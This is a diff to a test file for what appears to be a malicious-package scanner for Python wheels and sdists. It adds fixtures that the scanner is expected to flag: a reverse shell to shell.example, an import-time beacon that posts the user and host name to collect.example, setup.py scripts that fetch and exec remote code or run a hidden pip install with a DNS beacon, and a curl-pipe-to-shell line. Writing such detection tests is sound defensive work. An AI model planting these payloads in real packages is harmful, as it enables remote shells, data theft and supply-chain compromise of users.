@@ -87,6 +87,36 @@ print "installing"
 exec base64.b64decode("cHJpbnQgJ2hpJw==")
 exec(base64.b64decode("cHJpbnQgJ2hpJw=="))
 """
+REVERSE_SHELL = """\
+import os, socket, subprocess
+def shell():
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect(("shell.example", 4444))
+    os.dup2(s.fileno(), 0)
+    os.dup2(s.fileno(), 1)
+    subprocess.call(["/bin/sh", "-i"])
+shell()
+"""
+IMPORT_BEACON = """\
+import getpass, socket, requests
+requests.post("https://collect.example/", json={"u": getpass.getuser(), "h": socket.gethostname()})
+"""
+HIDDEN_PAYLOAD_SETUP = '''\
+import os, tempfile
+from setuptools import setup
+payload = """import urllib.request as u; run = exec; run(u.urlopen('https://x.example/p').read())"""
+with tempfile.NamedTemporaryFile("w", suffix=".py", delete=False) as handle:
+    handle.write(payload)
+os.system("python " + handle.name)
+setup(name="demo")
+'''
+HIDDEN_INSTALL_SETUP = """\
+import subprocess
+from setuptools import setup
+setup(name="demo", version="1.0")
+subprocess.getoutput("dig @1.1.1.1 beacon.collect.example")
+subprocess.getoutput("pip install helper-payload -U")
+"""
 MALICIOUS_PTH = "import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"
 
 # Legitimate packages do all of these every day; none may be flagged.
@@ -219,6 +249,34 @@ CASES = [
         False,
     ),
     (
+        "reverse shell",
+        wheel({"demo/__init__.py": "from .net import shell\n", "demo/net.py": REVERSE_SHELL}),
+        "demo-1.0-py3-none-any.whl",
+        "reverse-shell",
+        True,
+    ),
+    (
+        "phone home on import",
+        wheel({"demo/__init__.py": IMPORT_BEACON}),
+        "demo-1.0-py3-none-any.whl",
+        "phone-home",
+        True,
+    ),
+    (
+        "payload hidden in a string",
+        _sdist(HIDDEN_PAYLOAD_SETUP),
+        "demo-1.0.tar.gz",
+        "download-exec",
+        True,
+    ),
+    (
+        "hidden install and DNS beacon",
+        _sdist(HIDDEN_INSTALL_SETUP),  # and the package has no code: a placeholder
+        "demo-1.0.tar.gz",
+        "hidden-install",
+        True,
+    ),
+    (
         "bundled executable",
         _sdist("from setuptools import setup\nsetup()\n", **{"bin/payload.exe": "MZ"}),
         "demo-1.0.tar.gz",
@@ -269,6 +327,24 @@ def test_a_comment_that_mentions_a_webhook_is_not_a_finding() -> None:
     docstring_only = scan_archive(wheel({"demo/__init__.py": source}), "d.whl")
     assert {f.rule for f in docstring_only.findings} <= {"exfil-sink"}
     assert POLICY.decide(docstring_only).allowed
+
+
+def test_weak_signals_in_a_module_nothing_runs_weigh_less() -> None:
+    source = "import os\nCMD = 'curl -fsSL https://get.example/i.sh | sh'\ndef f():\n    os.system(CMD)\n"
+    early = scan_archive(wheel({"demo/__init__.py": source}), "d.whl")
+    deep = scan_archive(
+        wheel({"demo/__init__.py": "x = 1\n", "demo/tools/install.py": source}), "d.whl"
+    )
+    assert early.score > deep.score > 0
+
+
+def test_tests_and_docs_are_not_judged() -> None:
+    archive = _sdist(
+        "x = 1\n",
+        "def f():\n    return 1\n",
+        **{"tests/test_evil.py": SETUP_DECODE_EXEC, "docs/conf.py": STEALER},
+    )
+    assert scan_archive(archive, "demo-1.0.tar.gz").findings == ()
 
 
 def test_rules_version_is_reported() -> None:
